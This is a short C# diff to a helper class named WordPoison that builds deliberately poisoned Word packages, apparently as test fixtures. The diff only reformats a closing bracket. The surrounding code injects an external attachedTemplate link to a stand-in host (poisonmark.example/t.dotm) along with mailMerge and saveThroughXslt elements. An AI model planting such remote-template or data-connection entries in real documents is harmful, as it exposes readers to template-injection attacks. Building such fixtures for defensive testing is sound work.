@@ -59,7 +59,8 @@ internal static class WordPoison
                 p.Insert(settings, "settings", $"<w:attachedTemplate {Names} r:id=\"{p.Relate(settings, "attachedTemplate", "http://poisonmark.example/t.dotm", isExternal: true)}\"/>"
                     + $"<w:mailMerge {Names}><w:connectString w:val=\"poisonmark\"/><w:query w:val=\"poisonmark\"/></w:mailMerge><w:saveThroughXslt {Names} w:solutionID=\"poisonmark\"/>", isFirst: true);
             }
-        });
+        }
+        );
     }
 
     private static void Body(PoisonedPackage package, string xml) => package.Insert(package.Main, "body", xml, isFirst: true);
